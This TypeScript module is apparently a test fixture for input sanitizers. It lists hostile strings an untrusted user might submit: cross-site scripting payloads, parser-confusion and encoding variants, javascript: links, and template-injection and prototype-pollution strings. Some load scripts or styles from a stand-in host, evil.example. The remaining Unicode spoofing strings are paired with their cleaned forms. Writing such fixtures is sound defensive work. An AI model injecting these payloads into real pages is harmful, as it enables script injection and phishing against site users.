// What people write when they want a page to do more than show it: markup, scripts, links and characters that have come
// through other pages. Where somebody else is shown something else than was written, both stand here.

export interface HostileText {
  readonly written: string;
  readonly shown: string;
}

const asWritten = [
  // Markup, and what parsers make of what is hardly any.
  '<script>alert(1)</script>',
  '</p><script>alert(1)</script><p>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=//evil.example/x.js></script>',
  '<script type=module>import("//evil.example")</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x:x onerror=alert`1`>',
  '<img/src/onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x/>#x">',
  '<math><mi xlink:href="javascript:alert(1)">x',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '<iframe src="javascript:alert(1)">',
  '<object data="javascript:alert(1)">',
  '<embed src="//evil.example/x.swf">',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<form action=//evil.example><button autofocus>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<template><img src=x onerror=alert(1)></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<x contenteditable onblur=alert(1)>x</x>',
  // Styles.
  '<style>*{display:none}</style>',
  '<p style="position:fixed;inset:0;background:red">',
  '<style>@import "//evil.example/x.css";</style>',
  'background:url(//evil.example/x.png)',
  // Entities and escapes, for whoever decodes once too often.
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\x3csvg onload=alert(1)\\x3e',
  '＜script＞alert(1)＜/script＞',
  // Links that are no links to a page.
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)//https://calls.example/',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'https://calls.example/"onmouseover="alert(1)',
  "https://calls.example/'onclick='alert(1)",
  'https://calls.example/<img src=x onerror=alert(1)>',
  'https://calls.example/?u=javascript:alert(1)#<script>',
  'https://bank.example@evil.example/',
  '[x](javascript:alert(1)) ![x](//evil.example/x.png)',
  // Templates, and names that objects have already.
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<%= alert(1) %>',
  '#{alert(1)}',
  '[object Object]',
  '__proto__',
  'constructor',
  'toString',
  '{"__proto__":{"isOwn":true}}',
  '{"type":"bye"}',
  'dangerouslySetInnerHTML',
  // Lengths.
  'Z\u0351\u0352'.repeat(12),
  `${'A'.repeat(3_970)}<script>alert(1)</script>`,
  '<b>'.repeat(1_000),
];

// [S8]
const cleaned: readonly HostileText[] = [
  { written: '\u202egpj.exe\u202c', shown: 'gpj.exe' },
  { written: 'a\u2066\u2067\u2068\u2069b', shown: 'ab' },
  { written: '\u200f\u200eAna', shown: 'Ana' },
  { written: '<scr\u0000ipt>alert(1)</script>', shown: '<script>alert(1)</script>' },
  { written: 'java\u0001script:alert(1)', shown: 'javascript:alert(1)' },
  { written: 'A\u200bn\u00ada\ufeff', shown: 'Ana' },
  { written: 'A\u001b[31mna', shown: 'A[31mna' },
];

export const hostileTexts: readonly HostileText[] = [
  ...asWritten.map((text) => ({ written: text, shown: text })),
  ...cleaned,
];

/** One of each kind, of one line and no longer than a name may be. */
const names = new Set([
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '<svg onload=alert(1)>',
  '<iframe src="javascript:alert(1)">',
  '<style>*{display:none}</style>',
  '&#60;img src=x onerror=alert(1)&#62;',
  'javascript:alert(1)',
  '${alert(1)}',
  '__proto__',
  '\u202egpj.exe\u202c',
  '<scr\u0000ipt>alert(1)</script>',
]);

export const hostileNames: readonly HostileText[] = hostileTexts.filter(({ written }) =>
  names.has(written),
);
